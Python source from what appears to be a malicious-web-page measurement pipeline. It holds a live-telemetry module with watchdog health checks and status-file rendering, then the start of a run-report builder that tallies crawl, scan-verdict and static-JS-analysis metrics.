    def record(self, name: str, kind: str, t: float, value: float) -> None:
        self.series(name, kind).add(t, value)

    def get(self, name: str) -> Optional[TimeSeries]:
        return self._series.get(name)

    def names(self) -> List[str]:
        return sorted(self._series)

    def __len__(self) -> int:
        return len(self._series)

    def snapshot(self, now: float, points: int = 12) -> Dict[str, Dict[str, Any]]:
        """JSON-ready view: last samples, plus window rates for counters."""
        out: Dict[str, Dict[str, Any]] = {}
        for name in self.names():
            series = self._series[name]
            entry: Dict[str, Any] = {
                "kind": series.kind,
                "points": [list(point) for point in series.points[-points:]],
            }
            last = series.last()
            entry["last"] = last[1] if last is not None else 0.0
            if series.kind == "counter":
                entry["rate_per_second"] = series.rate(now, self.window_seconds)
            out[name] = entry
        return out


# ---------------------------------------------------------------------------
# Health findings + watchdog
# ---------------------------------------------------------------------------
@dataclass
class HealthFinding:
    """One typed in-flight health signal."""

    kind: str
    severity: str
    phase: str
    subject: str
    message: str
    t: float = 0.0
    evidence: Dict[str, Any] = field(default_factory=dict)

    def to_dict(self) -> Dict[str, Any]:
        return {
            "kind": self.kind,
            "severity": self.severity,
            "phase": self.phase,
            "subject": self.subject,
            "message": self.message,
            "t": self.t,
            "evidence": dict(self.evidence),
        }

    def to_record(self) -> Dict[str, Any]:
        record = self.to_dict()
        record["type"] = "finding"
        return record


def _histogram_count_at_or_above(histogram: Histogram, ceiling: float) -> int:
    """Observations whose whole bucket sits at or above ``ceiling``.

    A deterministic bucket-edge approximation: bucket ``i`` covers
    ``(bounds[i-1], bounds[i]]`` so it counts when its lower edge is
    already past the ceiling; the overflow bucket's lower edge is the
    last bound.  Slight undercount near the ceiling, never an overcount.
    """
    count = 0
    bounds = histogram.bounds
    for index, bucket_count in enumerate(histogram.bucket_counts):
        lower = bounds[index - 1] if index > 0 else 0.0
        if index == len(bounds):
            lower = bounds[-1]
        if lower >= ceiling:
            count += bucket_count
    return count


class Watchdog:
    """Deterministic in-flight health checks over the live run state.

    Every check reads only the folded :class:`LiveRunState` (shard
    lifecycle, latest heartbeat samples) and the injected clock's
    ``now`` — no wall time, no ambient state — so a finding fires on
    the same heartbeat in every run of the same seed.

    Parameters
    ----------
    stall_seconds:
        A shard still running this many *simulated* seconds after it
        started is flagged ``stalled_shard``.  Healthy fan-outs never
        trip it: the shared clock only advances on the main thread,
        between a phase's shard-start and shard-finish records.
    budget_ceiling / budget_storm_fraction / budget_min_scripts:
        When at least ``budget_min_scripts`` scripts have executed and
        more than ``budget_storm_fraction`` of them hit the
        ``budget_ceiling`` step budget (read from the ``js.op_count``
        histogram at heartbeat instants), flag ``budget_storm`` — the
        sandbox is burning its whole budget on most scripts, which in
        the real measurement means an obfuscation arms-race page set or
        a mis-set budget.
    expected_malicious_rate / drift_tolerance / drift_min_verdicts:
        With an expected rate armed (see :meth:`from_baseline_report`),
        flag ``verdict_drift`` when the in-flight malicious fraction
        moves more than ``drift_tolerance`` (absolute) away from it
        after at least ``drift_min_verdicts`` verdicts.  ``None``
        disables the check (the default: rates are scale-dependent).
    """

    def __init__(self, stall_seconds: float = 300.0,
                 budget_ceiling: Optional[float] = 500_000.0,
                 budget_storm_fraction: float = 0.5,
                 budget_min_scripts: int = 32,
                 expected_malicious_rate: Optional[float] = None,
                 drift_tolerance: float = 0.10,
                 drift_min_verdicts: int = 512) -> None:
        self.stall_seconds = stall_seconds
        self.budget_ceiling = budget_ceiling
        self.budget_storm_fraction = budget_storm_fraction
        self.budget_min_scripts = budget_min_scripts
        self.expected_malicious_rate = expected_malicious_rate
        self.drift_tolerance = drift_tolerance
        self.drift_min_verdicts = drift_min_verdicts
        #: finding keys already raised (each fires at most once per run)
        self._seen: set = set()

    @classmethod
    def from_baseline_report(cls, path: str, **overrides: Any) -> "Watchdog":
        """A watchdog armed with the committed baseline's verdict rate.

        ``path`` is a :func:`~repro.obs.report.build_run_report` JSON
        (e.g. ``benchmarks/baseline_report.json``); the expected
        malicious rate is ``scan.malicious / scan.urls_scanned``.
        """
        with open(path, "r", encoding="utf-8") as handle:
            report = json.load(handle)
        scan = report.get("scan", {})
        scanned = float(scan.get("urls_scanned", 0) or 0)
        rate = (float(scan.get("malicious", 0)) / scanned) if scanned else None
        overrides.setdefault("expected_malicious_rate", rate)
        return cls(**overrides)

    # ------------------------------------------------------------------
    def check(self, state: "LiveRunState", now: float) -> List[HealthFinding]:
        """New findings only (each key fires once); deterministic order."""
        findings: List[HealthFinding] = []
        self._check_stalls(state, now, findings)
        self._check_budget_storm(state, now, findings)
        self._check_verdict_drift(state, now, findings)
        return findings

    def _raise_once(self, key: Tuple, finding: HealthFinding,
                    findings: List[HealthFinding]) -> None:
        if key in self._seen:
            return
        self._seen.add(key)
        findings.append(finding)

    def _check_stalls(self, state: "LiveRunState", now: float,
                      findings: List[HealthFinding]) -> None:
        for phase in sorted(state.shards):
            for index in sorted(state.shards[phase]):
                shard = state.shards[phase][index]
                if shard.get("state") != "running":
                    continue
                elapsed = now - float(shard.get("t_started", now))
                if elapsed <= self.stall_seconds:
                    continue
                label = str(shard.get("label") or index)
                self._raise_once(
                    (KIND_STALLED_SHARD, phase, index),
                    HealthFinding(
                        kind=KIND_STALLED_SHARD, severity="critical",
                        phase=phase, subject=label,
                        message="shard %s of the %s phase has been running "
                                "for %.0fs without finishing (threshold %.0fs)"
                                % (label, phase, elapsed, self.stall_seconds),
                        t=now,
                        evidence={"index": index, "elapsed_seconds": elapsed,
                                  "stall_seconds": self.stall_seconds},
                    ),
                    findings)

    def _check_budget_storm(self, state: "LiveRunState", now: float,
                            findings: List[HealthFinding]) -> None:
        budget = state.latest.get("budget")
        if not budget or self.budget_ceiling is None:
            return
        scripts = float(budget.get("scripts", 0))
        over = float(budget.get("over", 0))
        if scripts < self.budget_min_scripts:
            return
        fraction = over / scripts
        if fraction <= self.budget_storm_fraction:
            return
        self._raise_once(
            (KIND_BUDGET_STORM,),
            HealthFinding(
                kind=KIND_BUDGET_STORM, severity="warning",
                phase="scan", subject="js-sandbox",
                message="budget-exhaustion storm: %d of %d executed scripts "
                        "(%.0f%%) hit the %d-step budget"
                        % (int(over), int(scripts), 100 * fraction,
                           int(self.budget_ceiling)),
                t=now,
                evidence={"scripts": scripts, "over_ceiling": over,
                          "fraction": fraction,
                          "ceiling": self.budget_ceiling},
            ),
            findings)

    def _check_verdict_drift(self, state: "LiveRunState", now: float,
                             findings: List[HealthFinding]) -> None:
        expected = self.expected_malicious_rate
        if expected is None:
            return
        counters = state.latest.get("counters", {})
        malicious = float(counters.get("scan.verdict.malicious", 0.0))
        benign = float(counters.get("scan.verdict.benign", 0.0))
        total = malicious + benign
        if total < self.drift_min_verdicts:
            return
        rate = malicious / total
        if abs(rate - expected) <= self.drift_tolerance:
            return
        self._raise_once(
            (KIND_VERDICT_DRIFT,),
            HealthFinding(
                kind=KIND_VERDICT_DRIFT, severity="warning",
                phase="scan", subject="verdict-rate",
                message="malicious verdict rate %.1f%% drifted from the "
                        "baseline %.1f%% by more than %.0f points over %d "
                        "verdicts"
                        % (100 * rate, 100 * expected,
                           100 * self.drift_tolerance, int(total)),
                t=now,
                evidence={"rate": rate, "expected": expected,
                          "tolerance": self.drift_tolerance,
                          "verdicts": total},
            ),
            findings)


# ---------------------------------------------------------------------------
# Folded run state (shared by the live object and the status-file reader)
# ---------------------------------------------------------------------------
class LiveRunState:
    """The run's current state as a fold over status records.

    Both the in-process :class:`LiveTelemetry` and the offline status
    file reader drive this same fold, which is what makes
    ``repro watch``'s snapshot and the live object's snapshot one
    schema by construction.
    """

    def __init__(self, window_seconds: float = 300.0, capacity: int = 240) -> None:
        self.run: Dict[str, Any] = {"state": "pending", "meta": {},
                                    "t_started": None, "t_finished": None,
                                    "summary": {}}
        #: per-phase progress, in arrival order
        self.phases: Dict[str, Dict[str, Any]] = {}
        #: ``phase -> index -> shard record``
        self.shards: Dict[str, Dict[int, Dict[str, Any]]] = {}
        self.findings: List[Dict[str, Any]] = []
        self.series = TimeSeriesStore(capacity=capacity,
                                      window_seconds=window_seconds)
        #: the newest heartbeat's samples (counters/gauges/quantiles/budget)
        self.latest: Dict[str, Any] = {"counters": {}, "gauges": {},
                                       "quantiles": {}, "budget": None}
        self.last_t = 0.0
        self.records_applied = 0

    # ------------------------------------------------------------------
    def _phase(self, name: str) -> Dict[str, Any]:
        entry = self.phases.get(name)
        if entry is None:
            entry = self.phases[name] = {
                "state": "running", "unit": "", "total_units": 0,
                "units_done": 0, "t_started": None, "t_finished": None,
                "t_heartbeat": None, "fields": {},
            }
        return entry

    def apply(self, record: Dict[str, Any]) -> None:
        """Fold one status record in (the only mutation entry point)."""
        t = float(record.get("t", self.last_t))
        if t > self.last_t:
            self.last_t = t
        self.records_applied += 1
        rtype = record.get("type")
        if rtype == "run_started":
            self.run["state"] = "running"
            self.run["meta"] = dict(record.get("meta", {}))
            self.run["t_started"] = t
        elif rtype == "run_finished":
            self.run["state"] = "finished"
            self.run["t_finished"] = t
            self.run["summary"] = dict(record.get("summary", {}))
        elif rtype == "phase_started":
            entry = self._phase(str(record.get("phase", "")))
            entry["state"] = "running"
            entry["unit"] = str(record.get("unit", ""))
            entry["total_units"] = int(record.get("total_units", 0))
            entry["t_started"] = t
        elif rtype == "phase_finished":
            entry = self._phase(str(record.get("phase", "")))
            entry["state"] = "done"
            entry["t_finished"] = t
            if "units_done" in record:
                entry["units_done"] = int(record["units_done"])
            self._fold_samples(record.get("samples"), t)
        elif rtype == "heartbeat":
            self._apply_heartbeat(record, t)
        elif rtype == "shard_started":
            phase = str(record.get("phase", ""))
            index = int(record.get("index", 0))
            self.shards.setdefault(phase, {})[index] = {
                "index": index, "label": str(record.get("label", "")),
                "units": int(record.get("units", 0)),
                "state": "running", "t_started": t, "t_finished": None,
            }
        elif rtype == "shard_finished":
            phase = str(record.get("phase", ""))
            index = int(record.get("index", 0))
            shard = self.shards.setdefault(phase, {}).setdefault(
                index, {"index": index,
                        "label": str(record.get("label", "")),
                        "units": 0, "t_started": t})
            shard["state"] = "done"
            shard["t_finished"] = t
        elif rtype == "finding":
            finding = {key: value for key, value in record.items()
                       if key != "type"}
            self.findings.append(finding)

    def _apply_heartbeat(self, record: Dict[str, Any], t: float) -> None:
        entry = self._phase(str(record.get("phase", "")))
        entry["t_heartbeat"] = t
        if "units_done" in record:
            entry["units_done"] = int(record["units_done"])
        fields = record.get("fields")
        if fields:
            entry["fields"] = dict(fields)
        self._fold_samples(record.get("samples"), t)

    def _fold_samples(self, samples: Optional[Dict[str, Any]], t: float) -> None:
        samples = samples or {}
        counters = samples.get("counters") or {}
        for name in sorted(counters):
            self.series.record(name, "counter", t, float(counters[name]))
        gauges = samples.get("gauges") or {}
        for name in sorted(gauges):
            self.series.record(name, "gauge", t, float(gauges[name]))
        quantiles = samples.get("quantiles") or {}
        for name in sorted(quantiles):
            self.series.record(name, "quantile", t, float(quantiles[name]))
        if counters:
            self.latest["counters"].update(counters)
        if gauges:
            self.latest["gauges"].update(gauges)
        if quantiles:
            self.latest["quantiles"].update(quantiles)
        if samples.get("budget") is not None:
            self.latest["budget"] = dict(samples["budget"])

    # ------------------------------------------------------------------
    def snapshot(self, now: Optional[float] = None) -> Dict[str, Any]:
        """The JSON-ready progress/health view (one schema everywhere)."""
        now = self.last_t if now is None else now
        phases: Dict[str, Any] = {}
        for name, entry in self.phases.items():
            total = entry["total_units"]
            done = entry["units_done"]
            percent = (100.0 * done / total) if total else None
            phases[name] = {
                "state": entry["state"],
                "unit": entry["unit"],
                "total_units": total,
                "units_done": done,
                "percent": percent,
                "eta_seconds": self._eta(entry, total, done),
                "t_started": entry["t_started"],
                "t_finished": entry["t_finished"],
                "t_heartbeat": entry["t_heartbeat"],
                "fields": dict(entry["fields"]),
            }
        shards: Dict[str, Any] = {}
        for phase in sorted(self.shards):
            records = [dict(self.shards[phase][index])
                       for index in sorted(self.shards[phase])]
            shards[phase] = {
                "total": len(records),
                "running": sum(1 for s in records if s["state"] == "running"),
                "finished": sum(1 for s in records if s["state"] == "done"),
                "shards": records,
            }
        return {
            "run": {
                "state": self.run["state"],
                "meta": dict(self.run["meta"]),
                "t_started": self.run["t_started"],
                "t_finished": self.run["t_finished"],
                "summary": dict(self.run["summary"]),
            },
            "phases": phases,
            "shards": shards,
            "series": self.series.snapshot(now),
            "findings": [dict(finding) for finding in self.findings],
            "t": now,
            "records_applied": self.records_applied,
        }

    @staticmethod
    def _eta(entry: Dict[str, Any], total: int, done: int) -> Optional[float]:
        """Simulated-seconds to completion, when the clock moved.

        The scan phase never advances the shared clock, so its ETA is
        ``None`` — progress there is the units fraction, not a rate.
        """
        if entry["state"] != "running" or not total or done <= 0:
            return None
        started = entry["t_started"]
        latest = entry["t_heartbeat"]
        if started is None or latest is None or latest <= started:
            return None
        rate = done / (latest - started)
        return (total - done) / rate


# ---------------------------------------------------------------------------
# The live telemetry object
# ---------------------------------------------------------------------------
class LiveTelemetry:
    """Streaming telemetry for one pipeline run.

    Construct with the run's injected clock, optionally a status-sink
    path and a :class:`Watchdog`, then :meth:`attach` to the run's
    :class:`~repro.obs.observer.RunObserver`; the observer's
    ``heartbeat`` hook and the phase executors forward lifecycle events
    here.  All entry points run on the main thread (worker-side
    heartbeats buffer through the
    :class:`~repro.phasexec.recording.RecordingObserver` and replay
    after the join, like every other telemetry write).
    """

    def __init__(self, clock: Clock, status_path: Optional[str] = None,
                 watchdog: Optional[Watchdog] = None,
                 window_seconds: float = 300.0, capacity: int = 240) -> None:
        self.clock = clock
        self.watchdog = watchdog if watchdog is not None else Watchdog()
        self.state = LiveRunState(window_seconds=window_seconds,
                                  capacity=capacity)
        self.metrics: Optional[MetricsRegistry] = None
        self.status_path = status_path
        self._sink: Optional[TextIO] = None
        if status_path is not None:
            self._sink = open(status_path, "w", encoding="utf-8")

    # -- lifecycle ----------------------------------------------------------
    def attach(self, observer: Any) -> "LiveTelemetry":
        """Bind to an observer: its hooks forward here from now on."""
        observer.live = self
        self.metrics = getattr(observer, "metrics", None)
        return self

    def close(self) -> None:
        """Flush and release the status sink (idempotent)."""
        if self._sink is not None:
            self._sink.close()
            self._sink = None

    def __enter__(self) -> "LiveTelemetry":
        return self

    def __exit__(self, *exc_info: object) -> None:
        self.close()

    # -- reading ------------------------------------------------------------
    @property
    def series(self) -> TimeSeriesStore:
        return self.state.series

    @property
    def findings(self) -> List[Dict[str, Any]]:
        return self.state.findings

    def snapshot(self) -> Dict[str, Any]:
        return self.state.snapshot(self.clock.now())

    # -- event entry points --------------------------------------------------
    def run_started(self, **meta: Any) -> None:
        """Announce the run (idempotent: the first announcement wins)."""
        if self.state.run["state"] != "pending":
            return
        self._emit({"type": "run_started", "t": self.clock.now(),
                    "meta": meta})

    def run_finished(self, **summary: Any) -> None:
        self._emit({"type": "run_finished", "t": self.clock.now(),
                    "summary": summary})

    def phase_started(self, phase: str, total_units: int = 0,
                      unit: str = "") -> None:
        self.run_started()
        self._emit({"type": "phase_started", "phase": phase,
                    "t": self.clock.now(), "total_units": int(total_units),
                    "unit": unit})
        self._check()

    def phase_finished(self, phase: str) -> None:
        entry = self.state.phases.get(phase)
        record = {"type": "phase_finished", "phase": phase,
                  "t": self.clock.now(),
                  "samples": self._sample(merge_complete=True)}
        if entry is not None:
            record["units_done"] = entry["units_done"]
        self._emit(record)
        self._check()

    def heartbeat(self, phase: str, units_done: Optional[int] = None,
                  advance: int = 0, **fields: Any) -> None:
        """One progress beat: resolve units, sample metrics, run checks."""
        entry = self.state.phases.get(phase)
        previous = entry["units_done"] if entry is not None else 0
        done = int(units_done) if units_done is not None else previous + int(advance)
        self._emit({"type": "heartbeat", "phase": phase,
                    "t": self.clock.now(), "units_done": done,
                    "fields": fields, "samples": self._sample()})
        self._check()

    def shard_started(self, phase: str, index: int, label: str = "",
                      units: int = 0) -> None:
        self._emit({"type": "shard_started", "phase": phase,
                    "t": self.clock.now(), "index": int(index),
                    "label": label, "units": int(units)})
        self._check()

    def shard_finished(self, phase: str, index: int, label: str = "") -> None:
        self._emit({"type": "shard_finished", "phase": phase,
                    "t": self.clock.now(), "index": int(index),
                    "label": label})
        self._check()

    def check(self) -> List[Dict[str, Any]]:
        """Force a watchdog pass now; returns the full findings list."""
        self._check()
        return self.state.findings

    # ------------------------------------------------------------------
    def _emit(self, record: Dict[str, Any]) -> None:
        self.state.apply(record)
        if self._sink is not None:
            self._sink.write(json.dumps(record, sort_keys=True, default=str))
            self._sink.write("\n")
            # flushed per record: the sink must survive a crash mid-run
            self._sink.flush()

    def _check(self) -> None:
        if self.watchdog is None:
            return
        for finding in self.watchdog.check(self.state, self.clock.now()):
            self._emit(finding.to_record())

    def _sample(self, merge_complete: bool = False) -> Dict[str, Any]:
        """Read tracked metrics without creating any (side-channel rule).

        Every read goes through the non-creating ``*_named`` accessors:
        a run with the sink on must leave the metrics registry — and
        therefore the committed report baseline — byte-identical to a
        run with it off.

        Heartbeats sample only metrics written from the main-thread
        loops (counters, crawl-fed latency quantiles), which coincide
        between serial and replayed-parallel runs at every beat.  The
        JS-sandbox metrics (``js.op_count`` gauge, the budget-storm
        histogram read) are written *inside* scan workers — complete
        before the parallel merge loop but progressive in serial — so
        they are sampled only at ``merge_complete`` points (phase
        boundaries), keeping the status stream worker-count-invariant.
        """
        metrics = self.metrics
        if metrics is None:
            return {}
        samples: Dict[str, Any] = {
            "counters": {name: metrics.counter_total(name)
                         for name in TRACKED_COUNTERS},
        }
        quantiles: Dict[str, float] = {}
        for name, q in TRACKED_QUANTILES:
            histograms = metrics.histograms_named(name)
            quantiles["%s:p%02d" % (name, round(100 * q))] = (
                histograms[0].percentile(q) if histograms else 0.0)
        samples["quantiles"] = quantiles
        if not merge_complete:
            return samples
        samples["gauges"] = {
            name: max((g.value for g in metrics.gauges_named(name)),
                      default=0.0)
            for name in TRACKED_GAUGES
        }
        ceiling = self.watchdog.budget_ceiling if self.watchdog is not None else None
        if ceiling is not None:
            scripts = 0
            over = 0
            for histogram in metrics.histograms_named("js.op_count"):
                scripts += histogram.count
                over += _histogram_count_at_or_above(histogram, ceiling)
            samples["budget"] = {"ceiling": ceiling, "scripts": scripts,
                                 "over": over}
        return samples


# ---------------------------------------------------------------------------
# Status-file reading (the `repro watch` / `--status` surface)
# ---------------------------------------------------------------------------
def parse_status_text(text: str) -> List[Dict[str, Any]]:
    """Parse JSON-lines status text, skipping a torn trailing line.

    The sink flushes per record, so the only malformed line a reader
    can ever race into is a partially-written final one; skipping it
    makes tailing an in-flight run safe.
    """
    records: List[Dict[str, Any]] = []
    for line in text.splitlines():
        line = line.strip()
        if not line:
            continue
        try:
            record = json.loads(line)
        except ValueError:
            continue
        if isinstance(record, dict):
            records.append(record)
    return records


def fold_status_lines(records: Iterable[Dict[str, Any]],
                      window_seconds: float = 300.0,
                      capacity: int = 240) -> LiveRunState:
    """Fold parsed status records into a :class:`LiveRunState`."""
    state = LiveRunState(window_seconds=window_seconds, capacity=capacity)
    for record in records:
        state.apply(record)
    return state


def load_status_snapshot(path: str) -> Dict[str, Any]:
    """Read a status file and return its snapshot (live-schema dict)."""
    with open(path, "r", encoding="utf-8") as handle:
        text = handle.read()
    return fold_status_lines(parse_status_text(text)).snapshot()


def _progress_bar(percent: Optional[float], width: int = 24) -> str:
    if percent is None:
        return "-" * width
    filled = int(round(width * min(100.0, max(0.0, percent)) / 100.0))
    return "#" * filled + "-" * (width - filled)


def render_status_text(snapshot: Dict[str, Any]) -> str:
    """Human-readable rendering of a status snapshot (the watch view)."""
    run = snapshot.get("run", {})
    meta = run.get("meta", {})
    lines: List[str] = []
    meta_text = " ".join("%s=%s" % (key, meta[key]) for key in sorted(meta))
    lines.append("run: %-8s %s" % (run.get("state", "pending"), meta_text))
    lines.append("simulated clock: %.1fs" % float(snapshot.get("t", 0.0)))
    shards = snapshot.get("shards", {})
    for name, phase in snapshot.get("phases", {}).items():
        percent = phase.get("percent")
        percent_text = "%3.0f%%" % percent if percent is not None else "  --"
        eta = phase.get("eta_seconds")
        eta_text = "  eta %.0fs" % eta if eta is not None else ""
        unit = phase.get("unit") or "units"
        lines.append("%-6s [%s] %s  %d/%d %s (%s)%s"
                     % (name, _progress_bar(percent), percent_text,
                        phase.get("units_done", 0),
                        phase.get("total_units", 0), unit,
                        phase.get("state", ""), eta_text))
        shard_info = shards.get(name)
        if shard_info:
            lines.append("       shards: %d total, %d running, %d finished"
                         % (shard_info["total"], shard_info["running"],
                            shard_info["finished"]))
    series = snapshot.get("series", {})
    rates = [(name, entry) for name, entry in sorted(series.items())
             if entry.get("kind") == "counter"]
    if rates:
        lines.append("window rates (/s): "
                     + "  ".join("%s %.1f" % (name,
                                              entry.get("rate_per_second", 0.0))
                                 for name, entry in rates))
    findings = snapshot.get("findings", [])
    if findings:
        lines.append("health findings:")
        for finding in findings:
            lines.append("  [%s] %s: %s"
                         % (finding.get("severity", "?"),
                            finding.get("kind", "?"),
                            finding.get("message", "")))
    else:
        lines.append("health findings: none")
    return "\n".join(lines)
