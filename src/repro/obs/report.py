"""Run-telemetry report: JSON + Markdown.

Turns an observed pipeline run into the accounting a measurement
operator reads after (or during) a campaign: where the URLs went
per exchange, what each detection engine fired on, how deep the
redirect chains ran, and where the time was spent.  The JSON form is
the machine artifact (schema below); the Markdown form renders through
the same table helper as the study report.

JSON schema (top-level keys)::

    {
      "exchanges":  {name: {steps, member_visits, self_referrals,
                            popular_referrals, campaign_visits, records,
                            distinct_urls, har_entries, crawl_seconds,
                            urls_per_second}},
      "http":       {requests, status_classes: {"2xx": n, ...},
                     redirect_hops, latency: histogram-summary},
      "redirects":  {depth_counts: {"0": n, "1": n, ...}, max_depth},
      "scan":       {urls_scanned, malicious, benign, unscanned_queries,
                     unscanned_top: [[url, queries], ...],
                     engines: {name: detections}, engine_misses: {...},
                     heuristic_fps: {...}, quttera_threats: {severity: n},
                     blacklist_hits: n},
      "staticjs":   {scripts_analyzed, verdicts: {verdict: n},
                     sandbox_skipped_pages, sandbox_executed_pages,
                     sandbox_skip_rate, skipped_scripts,
                     dynamic_agreement_rate},
      "scanexec":   {workers, shards, file_tasks, url_tasks,
                     queue_depth_peak, worker_utilisation,
                     serial_seconds_est, parallel_seconds_est,
                     speedup_est, shard_busy: histogram-summary},
      "crawlexec":  {workers, shards, queue_depth_peak,
                     worker_utilisation, serial_seconds_est,
                     parallel_seconds_est, speedup_est, fallback_serial,
                     shard_busy: histogram-summary},
      "provenance": {records, stage_mix: {stage: n}, mean_stages,
                     recorded_counter},
      "dedup":      {records, new_urls, duplicate_urls, hit_rate},
      "js":         {gauges: {gauge-name: value},
                     op_count_distribution: histogram-summary,
                     compile_cache: {hits, misses, hit_rate}},
      "work":       {totals: {kind: units},          # only when the run
                     hot_paths: [{path, kind, units}],  # was profiled
                     cells: n},
      "memory":     {phases, objects, peak_bytes},   # only when a
                                                     # MemoryLedger ran
      "spans":      {name: {count, total, p50, p95, p99}},
      "events":     {emitted, dropped, tail: [...]},
      "metrics":    full registry snapshot
    }

The ``work`` and ``memory`` sections come from the deterministic
profiler (:mod:`repro.obs.profile`) and appear only when profiling was
enabled, so unprofiled baselines are unaffected.
"""

from __future__ import annotations

from typing import Any, Dict, List, Optional

from .observer import RunObserver

__all__ = ["attach_status_section", "build_run_report",
           "render_run_report_markdown"]


def _labeled_counts(observer: RunObserver, name: str, label: str) -> Dict[str, float]:
    out: Dict[str, float] = {}
    for counter in observer.metrics.counters_named(name):
        labels = dict(counter.labels)
        out[labels.get(label, "")] = counter.value
    return out


def build_run_report(pipeline: Any, outcome: Any = None) -> Dict[str, Any]:
    """Assemble the telemetry report for an observed pipeline run.

    ``pipeline`` is a :class:`~repro.crawler.pipeline.CrawlPipeline`
    whose ``observer`` is set; ``outcome`` the
    :class:`~repro.crawler.pipeline.ScanOutcome` if the scan phase ran.
    (Duck-typed to keep this module import-light.)
    """
    observer: Optional[RunObserver] = getattr(pipeline, "observer", None)
    if observer is None:
        raise ValueError("pipeline has no observer attached; "
                         "construct it with CrawlPipeline(web, observer=RunObserver())")
    metrics = observer.metrics
    dataset = pipeline.dataset

    # -- per-exchange crawl accounting --------------------------------------
    exchanges: Dict[str, Dict[str, Any]] = {}
    for name, stats in sorted(pipeline.crawl_stats.items()):
        records = dataset.records_for(name)
        har = dataset.har_logs.get(name)
        crawl_seconds = har.time_span() if har is not None else 0.0
        entry_count = len(har) if har is not None else 0
        exchanges[name] = {
            "steps": stats.steps,
            "member_visits": stats.member_visits,
            "self_referrals": stats.self_referrals,
            "popular_referrals": stats.popular_referrals,
            "campaign_visits": stats.campaign_visits,
            "records": len(records),
            "distinct_urls": len({r.url for r in records}),
            "har_entries": entry_count,
            "crawl_seconds": crawl_seconds,
            "urls_per_second": (len(records) / crawl_seconds) if crawl_seconds else 0.0,
        }

    # -- HTTP layer ----------------------------------------------------------
    status_classes = _labeled_counts(observer, "http.responses", "status_class")
    latency = metrics.histogram("http.fetch.seconds").summary()
    http = {
        "requests": metrics.counter_total("http.requests"),
        "status_classes": status_classes,
        "redirect_hops": metrics.counter_total("http.redirect.hops"),
        "latency": latency,
    }

    # -- redirect-chain depth distribution ----------------------------------
    depth_counts: Dict[str, int] = {}
    max_depth = 0
    for record in dataset.records:
        if record.role != "page":
            continue
        depth_counts[str(record.redirect_count)] = (
            depth_counts.get(str(record.redirect_count), 0) + 1
        )
        max_depth = max(max_depth, record.redirect_count)
    redirects = {"depth_counts": dict(sorted(depth_counts.items(), key=lambda kv: int(kv[0]))),
                 "max_depth": max_depth}

    # -- scan phase ----------------------------------------------------------
    scan: Dict[str, Any] = {
        "urls_scanned": int(metrics.counter_total("scan.urls")),
        "malicious": int(metrics.counter_total("scan.verdict.malicious")),
        "benign": int(metrics.counter_total("scan.verdict.benign")),
        "unscanned_queries": getattr(outcome, "unscanned_queries", 0) if outcome is not None else 0,
        # worst never-scanned offenders, most-queried first (healthy
        # runs have none; a populated list names the gap to close)
        "unscanned_top": [list(item) for item in outcome.unscanned_top()]
        if outcome is not None and hasattr(outcome, "unscanned_top") else [],
        "engines": _labeled_counts(observer, "scan.engine.detected", "engine"),
        "engine_misses": _labeled_counts(observer, "scan.engine.signature_miss", "engine"),
        "heuristic_fps": _labeled_counts(observer, "scan.engine.heuristic_fp", "engine"),
        "quttera_threats": _labeled_counts(observer, "scan.quttera.threats", "severity"),
        "blacklist_hits": int(metrics.counter_total("scan.blacklist.hits")),
    }

    # -- static pre-filter (repro.staticjs) ---------------------------------
    skipped_pages = metrics.counter_total("staticjs.sandbox.skipped_pages")
    executed_pages = metrics.counter_total("staticjs.sandbox.executed_pages")
    agreement = _labeled_counts(observer, "staticjs.agreement", "agree")
    agreed = agreement.get("true", 0.0)
    disagreed = agreement.get("false", 0.0)
    staticjs = {
        "scripts_analyzed": int(metrics.counter_total("staticjs.scripts")),
        "verdicts": {k: int(v) for k, v in
                     _labeled_counts(observer, "staticjs.verdict", "verdict").items()},
        "sandbox_skipped_pages": int(skipped_pages),
        "sandbox_executed_pages": int(executed_pages),
        "sandbox_skip_rate": (skipped_pages / (skipped_pages + executed_pages)
                              if (skipped_pages + executed_pages) else 0.0),
        "skipped_scripts": int(metrics.counter_total("staticjs.sandbox.skipped_scripts")),
        "dynamic_agreement_rate": (agreed / (agreed + disagreed)
                                   if (agreed + disagreed) else 0.0),
        # abstract-interpretation sub-stage: pages whose complete effect
        # summaries replaced execution, and why the rest still executed
        "absint": {
            "skipped_pages": int(
                metrics.counter_total("staticjs.absint.skipped_pages")),
            "blocked_pages": {
                k: int(v) for k, v in
                _labeled_counts(observer, "staticjs.absint.blocked_pages",
                                "reason").items()},
            "redirect_targets": int(
                metrics.counter_total("scan.static.redirect_targets")),
        },
    }

    # -- scan executor (repro.scanexec; zeros when the run was serial) ------
    scanexec = {
        "workers": int(metrics.gauge("scanexec.workers").value),
        "shards": int(metrics.counter_total("scanexec.shards")),
        "file_tasks": int(metrics.counter_total("scanexec.tasks.file")),
        "url_tasks": int(metrics.counter_total("scanexec.tasks.url")),
        "queue_depth_peak": int(metrics.gauge("scanexec.queue.depth").value),
        "worker_utilisation": metrics.gauge("scanexec.worker.utilisation").value,
        "serial_seconds_est": metrics.gauge("scanexec.serial_seconds").value,
        "parallel_seconds_est": metrics.gauge("scanexec.parallel_seconds").value,
        "speedup_est": metrics.gauge("scanexec.speedup").value,
        "shard_busy": metrics.histogram("scanexec.shard.busy_seconds").summary(),
    }

    # -- crawl executor (repro.crawlexec; zeros when the run was serial) ----
    crawlexec = {
        "workers": int(metrics.gauge("crawlexec.workers").value),
        "shards": int(metrics.counter_total("crawlexec.shards")),
        "queue_depth_peak": int(metrics.gauge("crawlexec.queue.depth").value),
        "worker_utilisation": metrics.gauge("crawlexec.worker.utilisation").value,
        "serial_seconds_est": metrics.gauge("crawlexec.serial_seconds").value,
        "parallel_seconds_est": metrics.gauge("crawlexec.parallel_seconds").value,
        "speedup_est": metrics.gauge("crawlexec.speedup").value,
        "fallback_serial": bool(metrics.counter_total("crawlexec.fallback.serial")),
        "shard_busy": metrics.histogram("crawlexec.shard.busy_seconds").summary(),
    }

    # -- verdict provenance (repro.obs.provenance; zeros when disabled) -----
    store = getattr(pipeline, "provenance_store", None)
    provenance = {
        "records": len(store) if store is not None else 0,
        "stage_mix": store.stage_mix() if store is not None else {},
        "mean_stages": store.mean_stages() if store is not None else 0.0,
        "recorded_counter": int(metrics.counter_total("provenance.records")),
    }

    # -- dedup (from the dataset itself: one capture attempt per record) ----
    record_count = len(dataset.records)
    new_urls = len(dataset.content)
    dup_urls = max(0, record_count - new_urls)
    dedup = {
        "records": record_count,
        "new_urls": new_urls,
        "duplicate_urls": dup_urls,
        "hit_rate": (dup_urls / record_count) if record_count else 0.0,
    }

